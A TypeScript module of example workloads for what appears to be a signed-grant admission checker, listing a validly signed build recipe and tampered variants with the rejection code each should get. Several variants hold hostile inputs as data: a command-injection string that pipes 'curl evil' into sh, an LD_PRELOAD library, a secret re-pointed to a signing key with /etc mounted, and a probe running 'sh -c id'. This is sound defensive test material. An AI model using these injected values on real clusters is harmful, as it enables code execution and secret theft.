/**
 * Ready-made workloads: a recipe signed once, and what was done to it on the way.
 *
 * The grants are signed when they are asked for, with seeds that stand here for
 * everyone to read. They must never sign anything else.
 *
 * @module
 */

import {
  attachGrant,
  encodeGrantDocument,
  grantFromSpec,
  parseWorkloadSpec,
  publicKeyOf,
  signGrant,
  toJson,
} from "@writ/writ";
import type { WorkloadSpec } from "@writ/writ";
import type { Example, Values } from "../question.ts";
import { tidy } from "../tidy.ts";

const AUTHOR = "07".repeat(32);
const STRANGER = "09".repeat(32);
const RUN = "k7f2q9";

/** What the author signs: the recipe's spec, its holes left open. */
const RECIPE = {
  schema_version: "V1",
  name: "package-app",
  image: {
    registry: "registry.example.org",
    repository: "forge/builder",
    tag: "v12.4.0",
    digest: `sha256:${"3b9e5d07".repeat(8)}`,
  },
  tier: "infra",
  replicas: 1,
  command: ["make.sh '{{target}}' '{{out}}'"],
  env: [{ name: "BUILD_ID", value: { literal: { value: "" } } }],
  secrets: [{
    source: { cluster: { name: "upload-token" } },
    target: { file: { path: "/run/secrets/upload-token", mode: 256 } },
  }],
  resources: { memory_mb: 2048, cpu_millis: 2000, ephemeral_storage_mb: 4096 },
  restart_policy: "never",
  stop_policy: { signal: 15, grace_period: 30000 },
  expose: { mesh: { identity: `forge.${RUN}`, ports: [] } },
  labels: {},
  annotations: {} as Record<string, string>,
};
type Recipe = typeof RECIPE & Record<string, unknown>;

/** What the dispatcher makes of it for one run: the holes filled, the run's own directory. */
const DISPATCHED: Recipe = {
  ...RECIPE,
  name: `forge-${RUN}`,
  command: ["make.sh 'x86_64-linux' '/yah/produced/app.tar'"],
  env: [{ name: "BUILD_ID", value: { literal: { value: RUN } } }],
  volumes: [{
    source: { bind: { host_path: `/var/lib/yah/qed/produced/${RUN}` } },
    target: "/yah/produced",
    read_only: false,
  }],
};

function spec(recipe: Recipe): WorkloadSpec {
  return parseWorkloadSpec(JSON.stringify(recipe));
}

/** A dispatched spec as it travels: with the recipe's grant, signed by a seed. */
function signed(dispatched: Recipe, seed = AUTHOR): Recipe {
  const document = encodeGrantDocument(grantFromSpec("package-app", spec(RECIPE)));
  const { annotations } = attachGrant(spec(dispatched), {
    document,
    signature: signGrant(document, seed),
    key: publicKeyOf(seed),
  });
  return { ...dispatched, annotations: { ...annotations } };
}

function values(recipe: Recipe, policy = "required"): Values {
  return {
    policy,
    coverage: "strict",
    keys: publicKeyOf(AUTHOR),
    spec: tidy(toJson(recipe)),
    document: recipe.annotations["yah.admission.grant"] ?? "",
  };
}

function example(name: string, title: string, recipe: () => Recipe, code?: string): Example {
  return { name, title, ...(code && { code }), values: () => values(recipe()) };
}

/** Annotations with one taken away, or put in another's place. */
function annotated(
  recipe: Recipe,
  name: string,
  change: (text: string) => string | undefined,
): Recipe {
  const text = change(recipe.annotations[name] ?? "");
  const { [name]: _, ...rest } = recipe.annotations;
  return { ...recipe, annotations: text === undefined ? rest : { ...rest, [name]: text } };
}

/** The examples; the first is the one a visitor sees. */
export const WORKLOAD_EXAMPLES: readonly Example[] = [
  example("admitted", "A signed recipe, its holes filled", () => signed(DISPATCHED)),
  {
    name: "unsigned",
    title: "No grant, under a permissive policy",
    values: () => values(DISPATCHED, "permissive"),
  },
  {
    name: "document",
    title: "A grant document by itself",
    values: () => ({ ...values(signed(DISPATCHED)), spec: "" }),
  },
  example(
    "preload",
    "A variable that brings code",
    () =>
      signed({
        ...DISPATCHED,
        env: [
          ...DISPATCHED.env,
          { name: "LD_PRELOAD", value: { literal: { value: "/yah/produced/x.so" } } },
        ],
      }),
    "mismatch",
  ),
  example(
    "image",
    "Another image",
    () =>
      signed({
        ...DISPATCHED,
        image: { ...RECIPE.image, digest: `sha256:${"c0ffee00".repeat(8)}` },
      }),
    "mismatch",
  ),
  example(
    "quote",
    "A hole that leaves its quotes",
    () =>
      signed({
        ...DISPATCHED,
        command: ["make.sh 'x'; curl evil | sh; echo '' '/yah/produced/a'"],
      }),
    "mismatch",
  ),
  example(
    "argv",
    "One more element of the command",
    () => signed({ ...DISPATCHED, command: [...DISPATCHED.command, "--upload-all"] }),
    "mismatch",
  ),
  example(
    "secret",
    "A re-pointed secret, and a bind of /etc",
    () =>
      signed({
        ...DISPATCHED,
        secrets: [{ ...RECIPE.secrets[0]!, source: { cluster: { name: "signing-key" } } }],
        volumes: [{ source: { bind: { host_path: "/etc" } }, target: "/host", read_only: true }],
      }),
    "mismatch",
  ),
  example(
    "probe",
    "A probe that runs a command",
    () =>
      signed({
        ...DISPATCHED,
        healthcheck: {
          probe: { exec: { argv: ["sh", "-c", "id"] } },
          interval: 5000,
          timeout: 1000,
          initial_delay: 0,
          failure_threshold: 3,
        },
      }),
    "uncovered",
  ),
  example(
    "widened",
    "A grant widened after it was signed",
    () =>
      annotated(
        signed(DISPATCHED),
        "yah.admission.grant",
        (text) => text.replace("host-network 5\nfalse", "host-network 4\ntrue"),
      ),
    "signature_mismatch",
  ),
  example(
    "stripped",
    "A signature left out",
    () => annotated(signed(DISPATCHED), "yah.admission.signature", () => undefined),
    "incomplete",
  ),
  example("stranger", "A stranger's key", () => signed(DISPATCHED, STRANGER), "untrusted_key"),
  example("bare", "No grant, where one is required", () => DISPATCHED, "grant_required"),
  {
    name: "cut-document",
    title: "A document with a wrong length",
    code: "grant_malformed",
    values: () => {
      const { document = "", ...rest } = values(signed(DISPATCHED));
      return { ...rest, spec: "", document: document.replace("argv.item ", "argv.item 1") };
    },
  },
  {
    name: "malformed",
    title: "A misspelt field",
    code: "unknown_field",
    values: () => {
      const whole = values(signed(DISPATCHED));
      return { ...whole, spec: whole.spec!.replace('"replicas"', '"replica"') };
    },
  },
];
